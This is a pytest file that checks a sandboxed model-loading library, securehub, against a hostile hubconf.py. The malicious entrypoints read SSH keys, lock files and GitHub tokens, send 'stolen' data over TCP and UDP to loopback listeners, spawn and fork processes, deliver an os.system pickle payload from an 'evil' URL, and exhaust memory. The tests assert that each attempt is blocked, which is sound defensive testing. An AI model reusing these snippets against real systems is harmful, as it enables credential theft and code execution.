"""A malicious ``hubconf.py`` loaded through ``securehub.load`` (SPEC sections 6, 8, 9).

Each test is one attack a hostile repo on the (real, loopback) git server tries, in its entrypoint
or at import time, against the real sandbox. Each asserts the exact ``.code``, that the message
names the attempt where the SPEC says so (``open /...``, ``connect 127.0.0.1:PORT``), and that
nothing happened: no canary file, nothing received by a listener, no new tree or artifact in the
cache, hub.lock byte-identical, no secret in the error.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch
from safetensors.torch import save

import securehub
from securehub.errors import SecureHubError
from securehub.pipeline.lock import lock_repos
from tests._hub_helpers import (
    NEEDS_FULL_SANDBOX,
    HubEnv,
    Snapshot,
    TcpListener,
    UdpListener,
    hub_env_context,
    publish,
    write_policy,
)
from tests._pickle_fixtures import reduce_call
from tests._servers import GitServer

pytestmark = NEEDS_FULL_SANDBOX

TOKEN = "ghp_" + "N3v3rL34kM3" * 3

PRELUDE = """
import os
import socket
import subprocess
import time

import torch
from torch import nn

dependencies = ["torch"]

HOME_SECRET = "@HOME_SECRET@"
CWD_SECRET = "@CWD_SECRET@"
LOCK_PATH = "@LOCK_PATH@"
OTHER_BLOB = "@OTHER_BLOB@"
CACHE_DIR = "@CACHE_DIR@"
CANARY = "@CANARY@"
TCP_PORT = @TCP_PORT@
UDP_PORT = @UDP_PORT@
EVIL_URL = "@EVIL_URL@"
"""

ENTRYPOINTS = """

def read_home_secret():
    expanded = os.path.expanduser("~/.ssh/id_rsa")
    if os.path.exists(expanded):
        raise ValueError("LEAKED via HOME: " + open(expanded).read())
    return nn.Linear(1, len(open(HOME_SECRET).read()))


def read_cwd_secret():
    return nn.Linear(1, len(open(CWD_SECRET).read()))


def read_hub_lock():
    return nn.Linear(1, len(open(LOCK_PATH).read()))


def read_other_cached_artifact():
    return nn.Linear(1, len(open(OTHER_BLOB, "rb").read()))


def read_github_token():
    seen = repr(os.environ.get("GITHUB_TOKEN")) + repr(os.environ.get("SECUREHUB_GITHUB_TOKEN"))
    raise ValueError("env sees " + seen)


def write_into_cache():
    with open(os.path.join(CACHE_DIR, "pwned"), "w") as f:
        f.write("pwned")
    return nn.Linear(1, 1)


def tcp_connect():
    with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2) as s:
        s.sendall(b"stolen")
    return nn.Linear(1, 1)


def udp_send():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"stolen", ("127.0.0.1", UDP_PORT))
    return nn.Linear(1, 1)


def subprocess_touch():
    subprocess.run(["touch", CANARY], check=True)
    return nn.Linear(1, 1)


def fork_and_touch():
    pid = os.fork()
    if pid == 0:
        open(CANARY, "w").close()
        os._exit(0)
    os.waitpid(pid, 0)
    return nn.Linear(1, 1)


def pickle_checkpoint(url=EVIL_URL):
    model = nn.Linear(1, 1)
    model.load_state_dict(torch.hub.load_state_dict_from_url(url, progress=False))
    return model


def torch_load_unsafe():
    path = os.path.join(os.environ["TMPDIR"], "c.pth")
    torch.save({"w": torch.zeros(1)}, path)
    return torch.load(path, weights_only=False)


def sleep_forever():
    time.sleep(120)
    return nn.Linear(1, 1)


def memory_bomb():
    hog = []
    for _ in range(1024):
        hog.append(bytearray(64 * 1024 * 1024))
    return nn.Linear(1, len(hog))
"""

IMPORT_TIME = {
    "read_home_secret": "open(HOME_SECRET).read()",
    "tcp_connect": 'socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2).sendall(b"x")',
    "subprocess_touch": 'subprocess.run(["touch", CANARY], check=True)',
    "write_into_cache": 'open(os.path.join(CACHE_DIR, "pwned"), "w").write("x")',
}


class Attack:
    """The module's world: secrets, listeners, the hostile repo locked under strict."""

    def __init__(self, env: HubEnv, monkeypatch: pytest.MonkeyPatch) -> None:
        self.env = env
        root = env.root
        home = root / "victim-home"
        (home / ".ssh").mkdir(parents=True)
        self.home_secret = home / ".ssh" / "id_rsa"
        self.home_secret.write_text("-----BEGIN OPENSSH PRIVATE KEY----- home secret\n")
        monkeypatch.setenv("HOME", str(home))
        self.cwd_secret = root / "project-secret.txt"  # the parent's cwd is root (hub_env_context)
        self.cwd_secret.write_text("cwd secret\n")
        self.canary = root / "pwned-canary"
        self.tcp = TcpListener()
        self.udp = UdpListener()
        self.lock = root / "hub.lock"
        # Another repo's artifact, cached by an earlier, legitimate download.
        other = save({"w": torch.ones(3)})
        other_url = env.artifacts.put("/other/weights.safetensors", other)
        securehub.load_state_dict_from_url(other_url, progress=False, policy="permissive")
        self.other_blob = env.hub / "artifacts" / "sha256" / hashlib.sha256(other).hexdigest()
        assert self.other_blob.is_file()
        self.evil_url = env.put("evil/weights.pth", reduce_call("os", "system", f"touch {self.canary}"))
        values = {
            "@HOME_SECRET@": str(self.home_secret),
            "@CWD_SECRET@": str(self.cwd_secret),
            "@LOCK_PATH@": str(self.lock),
            "@OTHER_BLOB@": str(self.other_blob),
            "@CACHE_DIR@": str(env.hub / "artifacts" / "sha256"),
            "@CANARY@": str(self.canary),
            "@TCP_PORT@": str(self.tcp.port),
            "@UDP_PORT@": str(self.udp.port),
            "@EVIL_URL@": self.evil_url,
        }
        prelude = PRELUDE
        for key, value in values.items():
            prelude = prelude.replace(key, value)
        self.repo = publish(env, "evil", {"hubconf.py": prelude + ENTRYPOINTS})
        self.import_specs = {
            name: env.spec(
                publish(env, f"evil-import-{name}", {"hubconf.py": prelude + f"\n{stmt}\n\ndef m():\n    pass\n"})
            )
            for name, stmt in IMPORT_TIME.items()
        }
        self.spec = env.spec(self.repo)
        lock_repos([self.spec, *self.import_specs.values()], policy="strict", lock=self.lock)
        # These attacks target the sandbox: under plain strict (lock.outputs: required) an unpinned
        # entrypoint would be refused with not-locked before the child ever ran. Strict with
        # lock.outputs: verify keeps every other strict setting and lets the attack reach the sandbox.
        self.strict = str(write_policy(env.root / "strict-outputs-verify.yaml", lock={"outputs": "verify"}))

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()

    def expect(
        self,
        code: str,
        entrypoint: str,
        *,
        spec: str | None = None,
        policy: str = "strict",
        codes_without_effect: tuple[str, ...] = (),
        check_cache: bool = True,
        **kwargs: object,
    ) -> str:
        """Load ``entrypoint``; assert that nothing happened, then ``code``; return the message.

        The no-effect checks come first so that a test marked ``xfail`` for its code alone still
        fails loudly if the attack had an effect: with ``codes_without_effect`` those codes are
        accepted (after the no-effect checks) and the exact-code assertion is left to the caller.
        """
        before = Snapshot.take(self.env.hub, self.lock)
        secrets = (self.home_secret.read_text(), self.cwd_secret.read_text())
        with pytest.raises(SecureHubError) as excinfo:
            securehub.load(
                spec or self.spec, entrypoint, policy=self.strict if policy == "strict" else policy,
                lock=self.lock, verbose=False, **kwargs,
            )  # fmt: skip
        msg = str(excinfo.value)
        assert not self.canary.exists()
        assert self.tcp.received == [] and self.udp.received == []
        assert not (self.env.hub / "artifacts" / "sha256" / "pwned").exists()
        if check_cache:
            before.assert_unchanged(self.env.hub, self.lock)
        else:
            assert Snapshot.take(self.env.hub, self.lock).lock == before.lock
            assert Snapshot.take(self.env.hub).trees == before.trees
        for secret in secrets:
            assert secret.strip() not in msg
        assert excinfo.value.code in (code, *codes_without_effect), msg
        return msg


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory, git_server: GitServer) -> Iterator[Attack]:
    with hub_env_context(tmp_path_factory.mktemp("evil"), git_server) as env:
        mp = pytest.MonkeyPatch()
        world = Attack(env, mp)
        try:
            yield world
        finally:
            world.close()
            mp.undo()


def test_read_ssh_key_in_home_outside_the_sandbox(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "read_home_secret")
    assert f"open {attack.home_secret}" in msg


def test_read_secret_in_parent_cwd_leaks_nothing(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "read_cwd_secret", codes_without_effect=("entrypoint-error",))
    assert "Permission denied" in msg or f"open {attack.cwd_secret}" in msg


def test_read_secret_in_parent_cwd(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "read_cwd_secret")
    assert f"open {attack.cwd_secret}" in msg


def test_read_hub_lock(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "read_hub_lock")
    assert f"open {attack.lock}" in msg


def test_read_cached_artifact_of_another_repo_leaks_nothing(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "read_other_cached_artifact", codes_without_effect=("entrypoint-error",))
    assert "Permission denied" in msg or f"open {attack.other_blob}" in msg


def test_read_cached_artifact_of_another_repo(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "read_other_cached_artifact")
    assert f"open {attack.other_blob}" in msg


def test_read_github_token_from_environment(attack: Attack, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.setenv("SECUREHUB_GITHUB_TOKEN", TOKEN)
    msg = attack.expect("entrypoint-error", "read_github_token")
    assert "env sees NoneNone" in msg
    assert TOKEN not in msg and "N3v3rL34k" not in msg
    assert "N3v3rL34k" not in attack.env.audit_log.read_text()


def test_write_into_the_cache(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "write_into_cache")
    assert f"open {attack.env.hub / 'artifacts' / 'sha256' / 'pwned'}" in msg
    assert "downloads must use" not in msg  # the network hint is for refused connections only


def test_tcp_connect_to_loopback_listener(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "tcp_connect")
    assert f"connect 127.0.0.1:{attack.tcp.port}" in msg
    # real repos (ProxylessNAS) download with urllib: the message says which downloads securehub answers
    assert "downloads must use torch.hub.load_state_dict_from_url" in msg


def test_udp_datagram_to_loopback_listener(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "udp_send")
    assert f"127.0.0.1:{attack.udp.port}" in msg


def test_subprocess_touch(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "subprocess_touch")
    assert "touch" in msg


def test_fork(attack: Attack) -> None:
    attack.expect("sandbox-violation", "fork_and_touch")


def test_pickle_checkpoint_with_reduce_payload(attack: Attack) -> None:
    """The parent's static scan refuses the checkpoint before the child ever gets a path to it."""
    msg = attack.expect("unsafe-pickle", "pickle_checkpoint", policy="default", check_cache=False)
    assert "system" in msg
    assert "pickle_checkpoint" not in attack.lock.read_text()  # nothing recorded by lock.mode: auto


def test_pickle_checkpoint_with_reduce_payload_is_not_cached(attack: Attack) -> None:
    url = attack.env.put("evil/other.pth", reduce_call("posix", "system", f"touch {attack.canary}"))
    attack.expect("unsafe-pickle", "pickle_checkpoint", policy="default", url=url)


def test_torch_load_weights_only_false_in_child(attack: Attack) -> None:
    msg = attack.expect("sandbox-violation", "torch_load_unsafe")
    assert "weights_only=False" in msg


def test_sleep_past_timeout(attack: Attack, tmp_path: Path) -> None:
    policy = write_policy(tmp_path / "short.yaml", "strict", sandbox={"timeout_s": 5}, lock={"outputs": "verify"})
    attack.expect("sandbox-timeout", "sleep_forever", policy=str(policy))


def test_memory_bomb(attack: Attack, tmp_path: Path) -> None:
    policy = write_policy(tmp_path / "small.yaml", "strict", sandbox={"memory_mb": 3072}, lock={"outputs": "verify"})
    msg = attack.expect("sandbox-resource", "memory_bomb", policy=str(policy))
    assert "memory" in msg


@pytest.mark.parametrize("name", sorted(IMPORT_TIME))
def test_attack_at_hubconf_import_time(attack: Attack, name: str) -> None:
    msg = attack.expect("sandbox-violation", "m", spec=attack.import_specs[name])
    named = {
        "read_home_secret": f"open {attack.home_secret}",
        "tcp_connect": f"connect 127.0.0.1:{attack.tcp.port}",
        "subprocess_touch": "touch",
        "write_into_cache": f"open {attack.env.hub / 'artifacts' / 'sha256' / 'pwned'}",
    }[name]
    assert named in msg
